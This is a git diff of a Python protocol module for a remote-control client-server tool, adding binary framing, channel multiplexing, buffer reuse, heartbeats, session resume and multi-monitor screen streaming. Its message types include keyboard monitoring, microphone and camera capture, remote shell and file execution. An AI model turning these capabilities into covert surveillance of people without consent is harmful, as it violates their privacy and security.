@@ -3,9 +3,16 @@
 定义客户端和服务器之间的消息格式和协议
 """
 
+import contextlib
+import contextvars
+import io
+import itertools
 import json
 import struct
 import socket
+import threading
+import time
+import weakref
 
 # ==================== 消息类型常量 ====================
 class MessageType:
@@ -39,6 +46,13 @@ class MessageType:
     SCREEN_START = 'SCREEN_START'    # 屏幕实时查看开始
     SCREEN_STOP = 'SCREEN_STOP'      # 屏幕实时查看停止
     SCREEN_FRAME = 'SCREEN_FRAME'    # 屏幕帧数据
+    SCREEN_TILES = 'SCREEN_TILES'    # 屏幕分块差量帧 (只含变化的块, 见 screen_codec)
+    SCREEN_CURSOR = 'SCREEN_CURSOR'  # 屏幕光标位置与形状 (观看者画在画面上)
+    SCREEN_VIEWPORT = 'SCREEN_VIEWPORT'  # 观看者显示区域大小变化 (服务器按其缩小画面)
+    SCREEN_MONITOR = 'SCREEN_MONITOR'  # 屏幕流切换显示器 (不重启屏幕流)
+    SCREEN_UPDATE = 'SCREEN_UPDATE'  # 修改运行中的屏幕流的区域/缩放比例/帧率/质量
+    SCREEN_KEYFRAME = 'SCREEN_KEYFRAME'  # 观看者请求关键帧并重置块缓存 (块缓存不一致时, 无响应)
+    MONITOR_LIST = 'MONITOR_LIST'    # 枚举显示器
     MOUSE_EVENT = 'MOUSE_EVENT'      # 鼠标事件 (move/click/scroll)
     MOUSE_EVENT_RESPONSE = 'MOUSE_EVENT_RESPONSE'  # 鼠标事件响应
     KEYBOARD_MONITOR_START = 'KEYBOARD_MONITOR_START'  # 开始键盘监控
@@ -50,24 +64,169 @@ class MessageType:
     DISCONNECT = 'DISCONNECT'        # 断开连接
     ERROR = 'ERROR'                  # 错误消息
     HEARTBEAT = 'HEARTBEAT'          # 心跳包
+    HEARTBEAT_ACK = 'HEARTBEAT_ACK'  # 心跳应答 (带回心跳的发送时间, 用于计算往返时延)
+    METRICS = 'METRICS'              # 性能统计请求
+    METRICS_RESPONSE = 'METRICS_RESPONSE'  # 性能统计响应
+
+
+# ==================== 二进制帧封装 ====================
+# 流式通道 (屏幕/摄像头) 的帧不再走 "JSON头 + 二进制数据" 两条消息,
+# 而是一个固定结构的帧头紧跟 JPEG 数据, 一次 scatter-gather 写出。
+#
+# 帧头格式 (大端序, 共20字节):
+#   magic(1) opcode(1) stream_id(2) seq(4) timestamp(8, 采集时间 double) payload_len(4)
+#
+# 普通消息的4字节长度前缀最大为10MB, 首字节必为0x00, 因此用 FRAME_MAGIC
+# 作为首字节即可在同一条连接上区分两种格式。
+FRAME_MAGIC = 0xFB
+FRAME_HEADER = struct.Struct('>BBHIdI')
+FRAME_HEADER_SIZE = FRAME_HEADER.size
+
+# 时延追踪 (观看者在开始消息中请求 trace 时): 操作码带 FRAME_TRACED 标志,
+# 数据前附加 FRAME_TRACE: 截屏耗时 f, 编码耗时 f (秒), 发送时间 d (服务器时钟);
+# 此时帧头的 timestamp 为开始截屏的时间 (见 frame_trace)
+FRAME_TRACED = 0x80
+FRAME_TRACE = struct.Struct('>ffd')
+
+
+class FrameOpcode:
+    """二进制帧操作码"""
+    SCREEN_FRAME = 1                 # 屏幕帧 (JPEG)
+    VIDEO_FRAME = 2                  # 摄像头视频帧 (JPEG)
+    DATA = 3                         # 消息附加数据块 (多路复用连接中大块数据切分后的片段)
+    SCREEN_TILES = 4                 # 屏幕分块差量帧
+    CURSOR = 5                       # 屏幕光标 (位置与形状, 见 screen_codec.pack_cursor)
+
+
+class Channel:
+    """
+    逻辑通道ID (二进制帧头中的 stream_id, 普通消息中的 'channel' 字段)
+    
+    同一条连接上不同通道的消息可以交错传输, 接收端按通道分发。
+    """
+    CONTROL = 0                      # 控制/一次性请求 (认证、截图、系统信息等)
+    SCREEN = 1                       # 屏幕实时查看
+    CAMERA = 2                       # 摄像头视频流/录像
+    SHELL = 3                        # Shell交互
+    FILE = 4                         # 文件传输/执行
+    KEYBOARD = 5                     # 键盘监控
+    AUDIO = 6                        # 麦克风录音
+    MOUSE = 7                        # 鼠标控制
+    HEARTBEAT = 8                    # 心跳 (单独的通道, 不排在大块数据之后)
+    SCREEN_EXTRA = 16                # 同时运行的其他屏幕流: 第 n 路 (n >= 1) 使用 SCREEN_EXTRA + n - 1
+
+
+# 操作码 -> 消息类型, 接收端据此把帧还原为与普通消息相同的字典结构
+FRAME_OPCODE_TYPES = {
+    FrameOpcode.SCREEN_FRAME: MessageType.SCREEN_FRAME,
+    FrameOpcode.VIDEO_FRAME: MessageType.VIDEO_FRAME,
+    FrameOpcode.SCREEN_TILES: MessageType.SCREEN_TILES,
+    FrameOpcode.CURSOR: MessageType.SCREEN_CURSOR,
+}
+
+# 消息类型 -> 所属通道 (请求与其响应在同一通道, 未列出的类型属于控制通道)
+MESSAGE_CHANNELS = {
+    MessageType.HEARTBEAT: Channel.HEARTBEAT,
+    MessageType.HEARTBEAT_ACK: Channel.HEARTBEAT,
+    MessageType.SCREEN_START: Channel.SCREEN,
+    MessageType.SCREEN_STOP: Channel.SCREEN,
+    MessageType.SCREEN_FRAME: Channel.SCREEN,
+    MessageType.SCREEN_TILES: Channel.SCREEN,
+    MessageType.SCREEN_CURSOR: Channel.SCREEN,
+    MessageType.SCREEN_MONITOR: Channel.SCREEN,
+    MessageType.SCREEN_UPDATE: Channel.SCREEN,
+    MessageType.SCREEN_KEYFRAME: Channel.SCREEN,
+    MessageType.VIDEO_START: Channel.CAMERA,
+    MessageType.VIDEO_STOP: Channel.CAMERA,
+    MessageType.VIDEO_FRAME: Channel.CAMERA,
+    MessageType.RECORD_START: Channel.CAMERA,
+    MessageType.RECORD_STOP: Channel.CAMERA,
+    MessageType.RECORD_STATUS: Channel.CAMERA,
+    MessageType.SHELL: Channel.SHELL,
+    MessageType.SHELL_RESPONSE: Channel.SHELL,
+    MessageType.SHELL_EXIT: Channel.SHELL,
+    MessageType.FILE_DOWNLOAD: Channel.FILE,
+    MessageType.FILE_DATA: Channel.FILE,
+    MessageType.FILE_UPLOAD: Channel.FILE,
+    MessageType.FILE_UPLOAD_RESPONSE: Channel.FILE,
+    MessageType.FILE_EXECUTE: Channel.FILE,
+    MessageType.FILE_EXECUTE_RESPONSE: Channel.FILE,
+    MessageType.KEYBOARD_MONITOR_START: Channel.KEYBOARD,
+    MessageType.KEYBOARD_MONITOR_STOP: Channel.KEYBOARD,
+    MessageType.KEYBOARD_EVENT: Channel.KEYBOARD,
+    MessageType.MIC_RECORD: Channel.AUDIO,
+    MessageType.MIC_RECORD_RESPONSE: Channel.AUDIO,
+    MessageType.MOUSE_EVENT: Channel.MOUSE,
+    MessageType.MOUSE_EVENT_RESPONSE: Channel.MOUSE,
+}
+
+
+def get_message_channel(message):
+    """
+    获取消息所属通道
+    
+    Args:
+        message: 消息字典
+    
+    Returns:
+        int: 通道ID (优先使用消息自带的 'channel' 字段)
+    """
+    channel = message.get('channel')
+    if channel is None:
+        channel = MESSAGE_CHANNELS.get(message.get('type'), Channel.CONTROL)
+    return channel
 
 # ==================== 协议函数 ====================
 
-def create_message(msg_type, data=None):
+# 消息ID (进程内递增), 响应通过 'reply_to' 回带请求的ID, 接收端据此配对
+_message_ids = itertools.count(1)
+
+# 当前正在处理的请求 (由 replying_to 设置), 其间创建的消息即为对它的响应
+_current_request = contextvars.ContextVar('current_request', default=None)
+
+
+@contextlib.contextmanager
+def replying_to(request):
+    """
+    在此上下文中创建的消息都作为 request 的响应 (带上 'reply_to')
+
+    新线程从空上下文开始, 因此处理函数里启动的推流/监听线程发出的消息
+    不会被误认为响应。
+
+    Args:
+        request: 正在处理的请求消息
+    """
+    token = _current_request.set(request)
+    try:
+        yield
+    finally:
+        _current_request.reset(token)
+
+
+def create_message(msg_type, data=None, channel=None):
     """
     创建协议消息
     
     Args:
         msg_type: 消息类型（来自 MessageType）
         data: 消息数据（字典）
+        channel: 所属通道, None 表示按消息类型 (见 MESSAGE_CHANNELS)
     
     Returns:
         dict: 消息字典
     """
+    if channel is None:
+        channel = MESSAGE_CHANNELS.get(msg_type, Channel.CONTROL)
     message = {
         'type': msg_type,
+        'id': next(_message_ids),
+        'channel': channel,
         'data': data or {}
     }
+
+    request = _current_request.get()
+    if request is not None and request.get('id') is not None:
+        message['reply_to'] = request['id']
     return message
 
 
@@ -97,12 +256,12 @@ def decode_message(data):
     解码消息字节流
     
     Args:
-        data: 字节流数据
+        data: 字节流数据 (bytes / bytearray / memoryview)
     
     Returns:
         dict: 解码后的消息字典
     """
-    json_str = data.decode('utf-8')
+    json_str = str(data, 'utf-8')
     message = json.loads(json_str)
     return message
 
@@ -142,6 +301,11 @@ def receive_message(sock):
         length_data = recv_exact(sock, 4)
         if not length_data:
             return None
+        length_data = bytes(length_data)  # 后续接收会复用同一缓冲区
+        
+        # 二进制帧: 首字节为帧魔数
+        if length_data[0] == FRAME_MAGIC:
+            return _receive_frame(sock, length_data)
         
         # 解析长度
         length = struct.unpack('>I', length_data)[0]
@@ -172,62 +336,357 @@ def receive_message(sock):
         return None
 
 
-def recv_exact(sock, n):
+def _receive_frame(sock, prefix):
     """
-    精确接收n个字节
+    接收一个二进制帧 (帧头前4字节已由调用方读出)
     
     Args:
         sock: socket 对象
-        n: 要接收的字节数
+        prefix: 已读取的帧头前4字节
+    
+    Returns:
+        dict: 与普通消息结构相同的字典, 额外带 'payload' 字段; 失败返回 None
+    """
+    rest = recv_exact(sock, FRAME_HEADER_SIZE - len(prefix))
+    if not rest:
+        return None
+    
+    _, opcode, stream_id, seq, timestamp, length = FRAME_HEADER.unpack(prefix + bytes(rest))
+    
+    # payload 为复用缓冲区上的 memoryview, 需在下一次接收前处理完
+    payload = recv_exact(sock, length) if length else memoryview(b'')
+    if payload is None:
+        return None
+    
+    opcode, payload, trace = split_frame_trace(opcode, payload)
+    msg_type = FRAME_OPCODE_TYPES.get(opcode)
+    if msg_type is None:
+        print(f"[警告] 未知的帧操作码: {opcode}, 已丢弃 {length} 字节")
+        return receive_message(sock)
+    
+    data = {
+        'stream_id': stream_id,
+        'seq': seq,
+        'timestamp': timestamp,
+        'size': length
+    }
+    if trace:
+        data.update(trace)
+    return {
+        'type': msg_type,
+        'channel': stream_id,
+        'data': data,
+        'payload': payload
+    }
+
+
+def split_frame_trace(opcode, payload):
+    """
+    分离带时延追踪的帧 (FRAME_TRACED) 附加的阶段时间
+
+    Args:
+        opcode: 帧头中的操作码
+        payload: 帧数据
+
+    Returns:
+        tuple: (操作码, 帧数据, 追踪字段 dict 或 None);
+               追踪字段为 grab / encode (秒), sent_at 与接收时间 received_at (各自的时钟)
+    """
+    if not opcode & FRAME_TRACED or len(payload) < FRAME_TRACE.size:
+        return opcode, payload, None
+    grab, encode, sent_at = FRAME_TRACE.unpack_from(payload)
+    return opcode & ~FRAME_TRACED, payload[FRAME_TRACE.size:], {
+        'grab': grab,
+        'encode': encode,
+        'sent_at': sent_at,
+        'received_at': time.time()
+    }
+
+
+# ==================== 接收缓冲区 ====================
+# 每个 socket 复用一块预分配缓冲区, 超过该大小的数据单独分配且不保留
+RECV_BUFFER_INITIAL_SIZE = 64 * 1024
+RECV_BUFFER_MAX_REUSE = 16 * 1024 * 1024
+
+
+def recv_into_exact(sock, view):
+    """
+    用 recv_into 把数据直接写入 view, 直到写满
+    
+    Args:
+        sock: socket 对象
+        view: 可写的 memoryview
     
     Returns:
-        bytes: 接收到的n个字节，失败返回 None
+        bool: 是否完整接收
     """
-    data = b''
+    total = len(view)
+    received = 0
     
-    while len(data) < n:
+    while received < total:
         try:
-            remaining = n - len(data)
-            chunk = sock.recv(min(remaining, 8192))  # 每次最多接收8KB
-            
-            if not chunk:
-                return None
-            
-            data += chunk
-                
+            count = sock.recv_into(view[received:], total - received)
         except socket.timeout:
-            return None
+            return False
         except Exception:
+            return False
+        
+        if not count:
+            return False
+        
+        received += count
+    
+    return True
+
+
+class RecvBuffer:
+    """
+    可复用的接收缓冲区
+    
+    数据经 recv_into 直接写入预分配的 bytearray, 返回其上的 memoryview,
+    不产生中间拷贝。返回的 memoryview 只在同一缓冲区下一次接收之前有效,
+    需要长期保存时请自行 bytes() 拷贝。
+    """
+    
+    def __init__(self, initial_size=RECV_BUFFER_INITIAL_SIZE, max_reuse=RECV_BUFFER_MAX_REUSE):
+        """
+        Args:
+            initial_size: 初始缓冲区大小
+            max_reuse: 可复用缓冲区的上限, 更大的数据单独分配
+        """
+        self.max_reuse = max_reuse
+        self._view = memoryview(bytearray(initial_size))
+    
+    def _reserve(self, n):
+        """返回至少 n 字节的可写 memoryview"""
+        if n <= len(self._view):
+            return self._view[:n]
+        
+        if n > self.max_reuse:
+            # 大块数据(如大文件)单独分配, 避免长期占用内存
+            return memoryview(bytearray(n))
+        
+        # 扩容时换一块新内存, 旧 memoryview 仍指向旧内存, 不受影响
+        size = len(self._view)
+        while size < n:
+            size *= 2
+        self._view = memoryview(bytearray(min(size, self.max_reuse)))
+        return self._view[:n]
+    
+    def recv_exact(self, sock, n):
+        """
+        精确接收n个字节
+        
+        Args:
+            sock: socket 对象
+            n: 要接收的字节数
+        
+        Returns:
+            memoryview: 接收到的数据视图，失败返回 None
+        """
+        view = self._reserve(n)
+        if not recv_into_exact(sock, view):
             return None
+        return view
+
+
+_recv_buffers = weakref.WeakKeyDictionary()
+_recv_buffers_lock = threading.Lock()
+
+
+def get_recv_buffer(sock):
+    """
+    获取 socket 对应的复用接收缓冲区 (socket 回收后自动释放)
+    
+    Args:
+        sock: socket 对象
+    
+    Returns:
+        RecvBuffer: 接收缓冲区
+    """
+    with _recv_buffers_lock:
+        buffer = _recv_buffers.get(sock)
+        if buffer is None:
+            buffer = RecvBuffer()
+            _recv_buffers[sock] = buffer
+        return buffer
+
+
+def recv_exact(sock, n):
+    """
+    精确接收n个字节
+    
+    数据写入该 socket 的复用缓冲区, 返回的 memoryview 在同一 socket
+    下一次接收之前有效。
+    
+    Args:
+        sock: socket 对象
+        n: 要接收的字节数
+    
+    Returns:
+        memoryview: 接收到的n个字节，失败返回 None
+    """
+    return get_recv_buffer(sock).recv_exact(sock, n)
+
+
+class BufferReader(io.RawIOBase):
+    """
+    memoryview 之上的只读文件对象
+    
+    供 PIL.Image.open 等按需读取, 不需要先把整块数据拷贝进 BytesIO。
+    """
+    
+    def __init__(self, buffer):
+        self._view = memoryview(buffer).cast('B')
+        self._pos = 0
+    
+    def readable(self):
+        return True
+    
+    def seekable(self):
+        return True
+    
+    def tell(self):
+        return self._pos
+    
+    def seek(self, offset, whence=io.SEEK_SET):
+        if whence == io.SEEK_SET:
+            pos = offset
+        elif whence == io.SEEK_CUR:
+            pos = self._pos + offset
+        elif whence == io.SEEK_END:
+            pos = len(self._view) + offset
+        else:
+            raise ValueError(f"无效的 whence: {whence}")
+        
+        if pos < 0:
+            raise ValueError(f"无效的位置: {pos}")
+        self._pos = pos
+        return pos
+    
+    def read(self, size=-1):
+        end = len(self._view) if size is None or size < 0 else min(self._pos + size, len(self._view))
+        start = min(self._pos, end)
+        self._pos = max(self._pos, end)
+        return bytes(self._view[start:end])
     
-    return data
+    def readinto(self, b):
+        data = self.read(len(b))
+        b[:len(data)] = data
+        return len(data)
 
 
-def send_binary_data(sock, data, chunk_size=4096):
+def decode_image(data):
+    """
+    把 JPEG/PNG 等图像数据解码为 PIL.Image (已完成加载, 不再引用 data)
+    
+    Args:
+        data: 图像数据 (bytes / memoryview)
+    
+    Returns:
+        PIL.Image.Image: 解码后的图像
+    """
+    from PIL import Image
+    
+    image = Image.open(BufferReader(data))
+    image.load()
+    return image
+
+
+def send_buffers(sock, buffers):
+    """
+    以 scatter-gather 方式完整发送多个缓冲区 (不拼接、不切片拷贝)
+    
+    Args:
+        sock: socket 对象
+        buffers: bytes / bytearray / memoryview 列表
+    """
+    # Windows 的 socket 没有 sendmsg, 退化为拼接后一次 sendall,
+    # 避免小帧头单独发送时被 Nagle 算法延迟
+    if not hasattr(sock, 'sendmsg'):
+        sock.sendall(b''.join(buffers))
+        return
+    
+    views = [memoryview(buf).cast('B') for buf in buffers if len(buf)]
+    while views:
+        sent = sock.sendmsg(views)
+        # 跳过已完整发送的缓冲区, 截断部分发送的缓冲区
+        while sent and views:
+            size = views[0].nbytes
+            if sent >= size:
+                sent -= size
+                views.pop(0)
+            else:
+                views[0] = views[0][sent:]
+                sent = 0
+
+
+def frame_buffers(opcode, stream_id, seq, payload, timestamp=None, trace=None):
+    """
+    组装二进制帧的各段 (帧头、追踪字段、数据), 交给 scatter-gather 写出
+
+    Args:
+        opcode: 帧操作码（来自 FrameOpcode）
+        stream_id: 流ID（来自 Channel）
+        seq: 帧序号
+        payload: 帧数据
+        timestamp: 采集时间戳, None 表示当前时间
+        trace: None, 或 (截屏耗时, 编码耗时) 秒, 附加为 FRAME_TRACE (发送时间取当前时间)
+
+    Returns:
+        list: 各段数据
+    """
+    if timestamp is None:
+        timestamp = time.time()
+    buffers = [payload]
+    if trace is not None:
+        opcode |= FRAME_TRACED
+        buffers.insert(0, FRAME_TRACE.pack(trace[0], trace[1], time.time()))
+    length = sum(len(buffer) for buffer in buffers)
+    buffers.insert(0, FRAME_HEADER.pack(FRAME_MAGIC, opcode, stream_id, seq & 0xFFFFFFFF, timestamp, length))
+    return buffers
+
+
+def send_frame(sock, opcode, stream_id, seq, payload, timestamp=None, trace=None):
+    """
+    发送二进制帧 (帧头 + 数据一次写出)
+    
+    Args:
+        sock: socket 对象
+        opcode: 帧操作码（来自 FrameOpcode）
+        stream_id: 流ID（来自 Channel）
+        seq: 帧序号
+        payload: 帧数据 (JPEG 字节)
+        timestamp: 采集时间戳, None 表示当前时间
+        trace: None, 或 (截屏耗时, 编码耗时), 见 frame_buffers
+    
+    Returns:
+        bool: 是否发送成功
+    """
+    try:
+        send_buffers(sock, frame_buffers(opcode, stream_id, seq, payload, timestamp, trace))
+        return True
+    
+    except Exception as e:
+        print(f"发送帧失败: {e}")
+        return False
+
+
+def send_binary_data(sock, data):
     """
     发送二进制数据（用于文件传输、截图等）
     
     Args:
         sock: socket 对象
         data: 二进制数据
-        chunk_size: 每次发送的块大小
     
     Returns:
         bool: 是否发送成功
     """
     try:
-        # 先发送数据总长度
-        length = len(data)
-        length_prefix = struct.pack('>I', length)
-        sock.sendall(length_prefix)
-        
-        # 分块发送数据
-        offset = 0
-        while offset < length:
-            chunk = data[offset:offset + chunk_size]
-            sock.sendall(chunk)
-            offset += chunk_size
-        
+        # 长度前缀与数据一次写出
+        length_prefix = struct.pack('>I', len(data))
+        send_buffers(sock, [length_prefix, data])
         return True
     
     except Exception as e:
@@ -243,7 +702,7 @@ def receive_binary_data(sock):
         sock: socket 对象
     
     Returns:
-        bytes: 接收到的二进制数据，失败返回 None
+        memoryview: 接收到的二进制数据 (复用缓冲区, 在下一次接收前有效)，失败返回 None
     """
     try:
         # 接收数据总长度
@@ -254,7 +713,7 @@ def receive_binary_data(sock):
         length = struct.unpack('>I', length_data)[0]
         
         # 接收所有数据
-        data = recv_exact(sock, length)
+        data = recv_exact(sock, length) if length else memoryview(b'')
         return data
     
     except Exception as e:
@@ -264,22 +723,46 @@ def receive_binary_data(sock):
 
 # ==================== 消息创建辅助函数 ====================
 
-def create_auth_message(password_hash):
-    """创建身份验证消息"""
-    return create_message(MessageType.AUTH, {'password_hash': password_hash})
+def create_auth_message(password_hash, resume_token=None):
+    """
+    创建身份验证消息
+    
+    Args:
+        password_hash: 密码哈希
+        resume_token: 恢复令牌 (重连时带上, 服务器据此恢复断线前的会话)
+    """
+    data = {'password_hash': password_hash}
+    if resume_token:
+        data['resume_token'] = resume_token
+    return create_message(MessageType.AUTH, data)
 
 
-def create_auth_response(success, message=''):
-    """创建身份验证响应消息"""
-    return create_message(MessageType.AUTH_RESPONSE, {
+def create_auth_response(success, message='', resume_token=None, resumed=False):
+    """
+    创建身份验证响应消息
+    
+    Args:
+        success: 是否验证成功
+        message: 提示信息
+        resume_token: 本会话的恢复令牌 (连接中断后凭此重连)
+        resumed: 是否恢复了断线前的会话
+    """
+    data = {
         'success': success,
         'message': message
-    })
+    }
+    if resume_token:
+        data['resume_token'] = resume_token
+        data['resumed'] = resumed
+    return create_message(MessageType.AUTH_RESPONSE, data)
 
 
-def create_screenshot_message():
-    """创建截图请求消息"""
-    return create_message(MessageType.SCREENSHOT)
+def create_screenshot_message(monitor=1):
+    """创建截图请求消息
+
+    monitor: 显示器编号 (1 为主显示器, 0 为所有显示器合成的虚拟桌面)
+    """
+    return create_message(MessageType.SCREENSHOT, {'monitor': monitor})
 
 
 def create_camera_message():
@@ -287,13 +770,19 @@ def create_camera_message():
     return create_message(MessageType.CAMERA)
 
 
-def create_video_start_message(width=640, height=480, fps=30, quality=85):
-    """创建开始视频流消息"""
+def create_video_start_message(width=640, height=480, fps=30, quality=85, adaptive=True, trace=False):
+    """创建开始视频流消息
+
+    fps/quality 为初始值; adaptive 为 True 时服务器按链路状况在其设定的范围内自动调整
+    trace: 是否随帧发送各阶段耗时 (时延追踪, 见 frame_trace)
+    """
     return create_message(MessageType.VIDEO_START, {
         'width': width,
         'height': height,
         'fps': fps,
-        'quality': quality
+        'quality': quality,
+        'adaptive': adaptive,
+        'trace': trace
     })
 
 
@@ -383,32 +872,141 @@ def create_mic_record_message(duration=5, samplerate=44100, channels=1):
     })
 
 
-def create_screen_start_message(region=None, fps=10, quality=70):
+def screen_channel(stream=0):
+    """
+    屏幕流使用的通道
+
+    Args:
+        stream: 屏幕流编号 (0 为默认的一路, 同时查看其他显示器时为 1, 2, ...)
+
+    Returns:
+        int: 通道ID (该路的帧、开始/停止/切换显示器消息都在此通道)
+    """
+    return Channel.SCREEN if not stream else Channel.SCREEN_EXTRA + int(stream) - 1
+
+
+def create_monitor_list_message():
+    """创建枚举显示器消息 (响应的 monitors 为 [{index, left, top, width, height, primary}, ...])"""
+    return create_message(MessageType.MONITOR_LIST)
+
+
+def create_screen_start_message(region=None, fps=10, quality=70, monitor=1, delta=False, cache_size=0,
+                                adaptive=True, viewport=None, stream=0, cursor=False, codec='jpeg', trace=False):
     """创建屏幕实时查看开始消息
 
     region: None 或 dict {'left':..,'top':..,'width':..,'height':..}，None 表示全屏
     fps: 帧率
     quality: JPEG质量
+    monitor: 显示器编号 (1 为主显示器, 见 create_monitor_list_message)
+    delta: 是否使用分块差量编码 (只发送变化的块, 帧类型为 SCREEN_TILES)
+    cache_size: 请求的块缓存容量 (块数, 仅差量模式), 服务器在响应的 cache_size 中确认实际使用的容量
+    adaptive: 是否自适应码率 (服务器按链路状况自动调整质量、帧率和分辨率, fps/quality 为初始值)
+    viewport: None 或 (宽, 高), 观看者显示区域的大小, 服务器把画面缩小到不超过此大小再编码
+    stream: 屏幕流编号, 同时查看多个显示器时每个显示器一路 (各自的帧率, 在 screen_channel(stream) 通道接收)
+    cursor: 是否单独发送光标 (SCREEN_CURSOR, 与画面在同一通道), 服务器在响应的 cursor 中确认
+    codec: 编码格式 'jpeg' / 'png' (调色板) / 'webp' (无损) / 'auto' (逐块选择无损或 JPEG),
+           服务器不支持时改用相近的格式, 在响应的 codec 中确认 (图像数据按内容识别格式, 解码不依赖此值)
+    trace: 是否随帧发送各阶段耗时 (时延追踪, 见 frame_trace)
     """
     return create_message(MessageType.SCREEN_START, {
         'region': region,
         'fps': fps,
-        'quality': quality
-    })
+        'quality': quality,
+        'monitor': monitor,
+        'delta': delta,
+        'cache_size': cache_size,
+        'adaptive': adaptive,
+        'viewport': list(viewport) if viewport else None,
+        'stream': stream,
+        'cursor': cursor,
+        'codec': codec,
+        'trace': trace
+    }, channel=screen_channel(stream))
+
+
+def create_screen_stop_message(stream=0):
+    return create_message(MessageType.SCREEN_STOP, {'stream': stream}, channel=screen_channel(stream))
+
+
+def create_screen_monitor_message(monitor, stream=0):
+    """创建屏幕流切换显示器消息 (之后的帧从新显示器的关键帧开始)
+
+    monitor: 显示器编号
+    stream: 屏幕流编号
+    """
+    return create_message(MessageType.SCREEN_MONITOR, {'monitor': monitor, 'stream': stream},
+                          channel=screen_channel(stream))
+
+
+def create_screen_update_message(region=None, fps=None, quality=None, scale=None, stream=0, codec=None):
+    """创建修改屏幕流参数消息 (参数一次性生效, 不重启屏幕流; 响应的 region 为实际采集的区域)
+
+    region: 新的区域 {'left':..,'top':..,'width':..,'height':..} (相对于显示器), {} 表示恢复整个显示器
+    fps: 帧率
+    quality: JPEG质量
+    scale: 最大缩放比例 (0.05-1.0)
+    stream: 屏幕流编号
+    codec: 编码格式 (同 create_screen_start_message), 服务器在响应的 codec 中确认
+    为 None 的参数保持不变
+    """
+    data = {'stream': stream}
+    for name, value in (('region', region), ('fps', fps), ('quality', quality), ('scale', scale),
+                        ('codec', codec)):
+        if value is not None:
+            data[name] = value
+    return create_message(MessageType.SCREEN_UPDATE, data, channel=screen_channel(stream))
+
+
+def create_screen_keyframe_message(stream=0):
+    """创建关键帧请求消息 (观看者的块缓存中找不到服务器引用的块时发送; 服务器重置块缓存,
+    下一帧发送关键帧, 不发送响应)
+
+    stream: 屏幕流编号
+    """
+    return create_message(MessageType.SCREEN_KEYFRAME, {'stream': stream}, channel=screen_channel(stream))
+
+
+def zoom_region(region, frame_size, rect):
+    """
+    观看者在画面上框选的矩形换算为显示器上的区域 (用于 SCREEN_UPDATE 放大查看局部)
+
+    Args:
+        region: 当前画面对应的区域 {left, top, width, height} (服务器响应中的 region)
+        frame_size: 当前画面的大小 (宽, 高)
+        rect: 画面上框选的矩形 (x, y, w, h)
+
+    Returns:
+        dict: 显示器上的区域 {left, top, width, height}
+    """
+    scale_x = region['width'] / frame_size[0]
+    scale_y = region['height'] / frame_size[1]
+    x, y, w, h = rect
+    return {
+        'left': region['left'] + int(x * scale_x),
+        'top': region['top'] + int(y * scale_y),
+        'width': max(1, int(w * scale_x)),
+        'height': max(1, int(h * scale_y))
+    }
 
 
-def create_screen_stop_message():
-    return create_message(MessageType.SCREEN_STOP)
+def create_screen_viewport_message(width, height, stream=0):
+    """创建显示区域大小变化消息 (观看者窗口缩放后发送, 服务器在响应的 scale 中返回新的缩放比例)
+
+    width, height: 显示区域的大小
+    stream: 屏幕流编号
+    """
+    return create_message(MessageType.SCREEN_VIEWPORT, {'width': width, 'height': height, 'stream': stream})
 
 
-def create_mouse_event_message(event_type, x=None, y=None, button='left', clicks=1, dx=0, dy=0):
+def create_mouse_event_message(event_type, x=None, y=None, button='left', clicks=1, dx=0, dy=0, stream=0):
     """创建鼠标事件消息
 
     event_type: 'move'|'click'|'scroll'
-    x,y: 坐标（屏幕坐标）
+    x,y: 坐标（屏幕流画面上的坐标, 服务器换算为该路屏幕流所在显示器的桌面坐标）
     button: 'left'|'right'|'middle'
     clicks: 点击次数
     dx,dy: 滚动或相对移动增量
+    stream: 坐标所在的屏幕流编号
     """
     return create_message(MessageType.MOUSE_EVENT, {
         'event': event_type,
@@ -417,7 +1015,8 @@ def create_mouse_event_message(event_type, x=None, y=None, button='left', clicks
         'button': button,
         'clicks': clicks,
         'dx': dx,
-        'dy': dy
+        'dy': dy,
+        'stream': stream
     })
 
 
@@ -450,6 +1049,38 @@ def create_system_info_message():
     return create_message(MessageType.SYSTEM_INFO)
 
 
+def create_heartbeat_message(seq, sent_at):
+    """
+    创建心跳消息
+    
+    Args:
+        seq: 心跳序号
+        sent_at: 发送时间 (发送方的单调时钟, 对端原样带回)
+    """
+    return create_message(MessageType.HEARTBEAT, {'seq': seq, 'sent_at': sent_at})
+
+
+def create_heartbeat_ack_message(seq, sent_at):
+    """
+    创建心跳应答消息
+    
+    Args:
+        seq: 所应答的心跳序号
+        sent_at: 心跳中的发送时间
+    """
+    return create_message(MessageType.HEARTBEAT_ACK, {'seq': seq, 'sent_at': sent_at})
+
+
+def create_metrics_message(dump=False):
+    """
+    创建性能统计请求消息
+    
+    Args:
+        dump: 是否让服务器同时把统计写入文件
+    """
+    return create_message(MessageType.METRICS, {'dump': dump})
+
+
 def create_shell_message(command, working_dir=None):
     """创建Shell命令消息"""
     return create_message(MessageType.SHELL, {
@@ -468,6 +1099,7 @@ def create_disconnect_message():
     return create_message(MessageType.DISCONNECT)
 
 
-def create_error_message(error_message):
-    """创建错误消息"""
-    return create_message(MessageType.ERROR, {'message': error_message})
\ No newline at end of file
+def create_error_message(error_message, channel=None):
+    """创建错误消息 (success 为 False, 与拒绝响应的格式相同; channel 为 None 时属于控制通道)"""
+    return create_message(MessageType.ERROR, {'success': False, 'error': error_message, 'message': error_message},
+                          channel=channel)
\ No newline at end of file